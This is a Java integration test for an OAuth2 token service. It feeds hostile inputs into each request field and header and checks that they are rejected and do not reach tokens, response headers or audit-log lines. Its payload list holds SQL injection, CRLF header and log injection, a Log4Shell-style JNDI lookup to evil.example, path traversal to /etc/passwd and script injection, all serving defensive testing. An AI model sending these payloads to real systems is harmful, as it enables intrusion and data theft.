package dev.concordat.token;

import static dev.concordat.token.TokenRequests.FORM;
import static dev.concordat.token.TokenRequests.user;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import dev.concordat.contracts.Json;
import dev.concordat.contracts.events.PartnerKind;
import dev.concordat.contracts.events.PartnerRegistered;
import dev.concordat.contracts.events.Trust;
import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.common.http.TestHTTPResource;
import io.quarkus.test.junit.QuarkusTest;
import jakarta.inject.Inject;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Shapes that mean something to a database, a log, a header or a shell, in every field that a
 * request has: none becomes a token, an error of ours, a header or a line of the audit log.
 */
@QuarkusTest
@QuarkusTestResource(RunningSuite.class)
class HostileRequestsTest {

  private static final List<String> SHAPES =
      List.of(
          "' OR '1'='1' --",
          "x'; DROP TABLE partners; --",
          "\" UNION SELECT secret FROM clients /*",
          "x\" client=\"admin\" partner=\"exchange",
          "x\\\" reason=\\",
          "x\r\nX-Injected: 1",
          "x\r\n\r\n<html>",
          "x\ntoken issued client=\"admin\"",
          "x\u0000y",
          "x\u0085token issued",
          "x\u2028token issued client=\"admin\"",
          "%0d%0aX-Injected:%201",
          "${jndi:ldap://evil.example/a}",
          "%s%n%1$s",
          "<script>alert(1)</script>",
          "../../../etc/passwd",
          "\u202Eexchange",
          "*",
          "'");

  private static final List<String> OF_TOKEN =
      List.of(
          "grant_type",
          "client_id",
          "client_secret",
          "client_assertion",
          "client_assertion_type",
          "audience",
          "resource",
          "requested_token_type",
          "subject_token",
          "subject_token_type",
          "user_smtp",
          "user_upn",
          "user_sid",
          "signing_key",
          "actor_token",
          "assertion");
  private static final List<String> OF_ACS =
      List.of("grant_type", "assertion", "resource", "realm", "scope");
  private static final List<String> OF_INTROSPECTION = List.of("resource");

  /** A wrong secret is slow on purpose: a few shapes will do. */
  private static final List<String> PROOFS = List.of("client_id", "client_secret");

  private static final String SECRET = "s3cret";

  private static final HttpClient HTTP = HttpClient.newHttpClient();

  @Inject Registry registry;
  @TestHTTPResource URI service;
  private AuditLog audit;

  @BeforeEach
  void listen() {
    registry.exchange("exchange");
    registry.register(client());
    audit = new AuditLog();
  }

  @AfterEach
  void stop() {
    audit.close();
  }

  static Stream<Arguments> everyField() {
    return Stream.of(
            fields("/oauth2/token", OF_TOKEN),
            fields("/tokens/OAuth/2", OF_ACS),
            fields("/oauth2/introspect", OF_INTROSPECTION))
        .flatMap(it -> it);
  }

  private static Stream<Arguments> fields(String path, List<String> names) {
    return names.stream().map(name -> Arguments.of(path, name));
  }

  @ParameterizedTest
  @MethodSource("everyField")
  void in_a_field_are_refused_and_become_nothing_else(String path, String field) throws Exception {
    String admin = OidcIssuer.admin();
    assertThat(post(path, sound(path, field, admin)).statusCode()).isEqualTo(200);
    for (String shape : PROOFS.contains(field) ? SHAPES.subList(2, 8) : SHAPES) {
      Map<String, String> form = sound(path, field, admin);
      if (field.equals("assertion")) {
        form.put("grant_type", "urn:ietf:params:oauth:grant-type:jwt-bearer");
        form.keySet().removeIf(name -> name.startsWith("subject_"));
      }
      form.put(field, shape);

      HttpResponse<String> answer = post(path, form);

      assertHarmless(answer, field + "=" + shape);
      assertThat(answer.statusCode()).as("%s=%s", field, shape).isBetween(400, 401);
      assertThat(answer.body()).doesNotContain("access_token\"");
      if (shape.chars().anyMatch(Character::isISOControl)) {
        assertThat(answer.body()).contains("control characters");
      }
    }
    assertOneLineEach();
  }

  @ParameterizedTest
  @ValueSource(strings = {"/oauth2/token", "/oauth2/introspect"})
  void in_basic_credentials_are_refused_and_become_nothing_else(String path) throws Exception {
    for (String shape : SHAPES.subList(3, 6)) {
      String pair = URLEncoder.encode(shape, StandardCharsets.UTF_8) + ":" + shape;
      String credentials =
          Base64.getEncoder().encodeToString(pair.getBytes(StandardCharsets.UTF_8));
      HttpResponse<String> answer =
          post(path, withoutProof(path), "Authorization", "Basic " + credentials);

      assertHarmless(answer, shape);
      assertThat(answer.statusCode()).isBetween(400, 401);
    }
    assertOneLineEach();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "x\",error=\"none",
        "a.example\", realm=\"b",
        "' OR '1'='1' --",
        "${jndi:ldap://evil.example/a}",
        "localhost;X-Injected=1"
      })
  void in_what_an_ingress_hands_on_leave_the_challenge_as_it_is(String shape) throws Exception {
    String usual = challenge("Bearer nonsense", "localhost");

    assertThat(challenge("Bearer nonsense", shape)).isEqualTo(usual);
    assertThat(challenge("Bearer " + shape, "localhost")).isEqualTo(usual);
    assertOneLineEach();
  }

  @ParameterizedTest
  @ValueSource(strings = {"evil\",error=\"none", "evil\\", "evil,more@x"})
  void in_a_partners_own_name_leave_the_challenge_as_it_is(String realm) throws Exception {
    String usual = challenge("Bearer nonsense", "localhost");
    registry.register(
        Registrations.partner(
            "evil",
            PartnerKind.SKYPE,
            "00000004-0000-0ff1-ce00-000000000000",
            realm,
            new Trust.ByCertificates(List.of(TestKeys.rsa().certificate().pem()))));
    try {
      assertThat(challenge("Bearer nonsense", "localhost")).isEqualTo(usual);
    } finally {
      registry.remove("evil");
    }
  }

  private String challenge(String authorization, String host) throws Exception {
    HttpResponse<String> answer =
        HTTP.send(
            HttpRequest.newBuilder(service.resolve("/authorize"))
                .header("Authorization", authorization)
                .header("X-Forwarded-Host", host)
                .build(),
            HttpResponse.BodyHandlers.ofString());
    assertThat(answer.statusCode()).isEqualTo(401);
    return answer.headers().firstValue("WWW-Authenticate").orElseThrow();
  }

  /** A request that is granted while the one field is as it should be. */
  private static Map<String, String> sound(String path, String field, String admin) {
    Map<String, String> form = withoutProof(path);
    if (PROOFS.contains(field) || path.equals("/tokens/OAuth/2")) {
      form.put("client_id", "hostile");
      form.put("client_secret", SECRET);
    } else {
      form.put("client_assertion_type", "urn:ietf:params:oauth:client-assertion-type:jwt-bearer");
      form.put("client_assertion", admin);
    }
    return form;
  }

  private static PartnerRegistered client() {
    var like = Registrations.workload("hostile", TokenServerTest.clientSecret(SECRET));
    return new PartnerRegistered(
        "hostile",
        PartnerKind.GENERIC,
        "22222222-2222-3333-4444-555555555555",
        "litwareinc.com",
        like.trustLevel(),
        true,
        null,
        List.of(Registrations.anyone("*")),
        like.clientAuth(),
        null,
        null,
        like.revision(),
        like.changedAt(),
        like.changedBy());
  }

  private static Map<String, String> withoutProof(String path) {
    Map<String, String> form =
        switch (path) {
          case "/oauth2/token" -> user("exchange", "", "sip:kenmyer@litwareinc.com");
          case "/oauth2/introspect" -> new LinkedHashMap<>(Map.of("token", "eyJ"));
          default ->
              new LinkedHashMap<>(
                  Map.of(
                      "grant_type",
                      "client_credentials",
                      "resource",
                      "https://autodiscover.litwareinc.com/"));
        };
    form.remove("client_assertion");
    form.remove("client_assertion_type");
    return form;
  }

  private HttpResponse<String> post(String path, Map<String, String> form, String... headers)
      throws Exception {
    var request =
        HttpRequest.newBuilder(service.resolve(path))
            .header("Content-Type", FORM)
            .POST(HttpRequest.BodyPublishers.ofString(encoded(form)));
    if (headers.length > 0) {
      request.headers(headers);
    }
    return HTTP.send(request.build(), HttpResponse.BodyHandlers.ofString());
  }

  private static String encoded(Map<String, String> form) {
    return form.entrySet().stream()
        .map(it -> it.getKey() + "=" + URLEncoder.encode(it.getValue(), StandardCharsets.UTF_8))
        .collect(Collectors.joining("&"));
  }

  private static void assertHarmless(HttpResponse<String> answer, String what) throws Exception {
    assertThat(answer.headers().map()).as(what).doesNotContainKey("x-injected");
    assertThat(answer.headers().firstValue("Content-Type").orElse(""))
        .as(what)
        .startsWith("application/json");
    JsonNode json = Json.mapper().readTree(answer.body());
    assertThat(json.isObject()).as(what).isTrue();
    // ACS' own form has line breaks in it.
    assertThat(json.path("error_description").asText().replace("\r\n", " "))
        .as(what)
        .matches("[\\x20-\\x21\\x23-\\x5B\\x5D-\\x7E]*");
  }

  /** Every value in its quotes, every line one line, and none that says what did not happen. */
  private void assertOneLineEach() {
    for (String line : audit.lines()) {
      assertThat(line.chars())
          .as(line)
          .noneMatch(it -> Character.isISOControl(it) || it == 0x2028 || it == 0x2029);
      String bare = line.replaceAll("\"[^\"]*\"", "?");
      assertThat(bare).as(line).doesNotContain("\"").matches("[a-z ]+( [a-z]+=[A-Za-z0-9?_:.-]+)*");
      if (line.startsWith("token issued")) {
        assertThat(line).matches("token issued client=\"(ann|hostile)\" partner=\"exchange\" .*");
      }
    }
  }
}
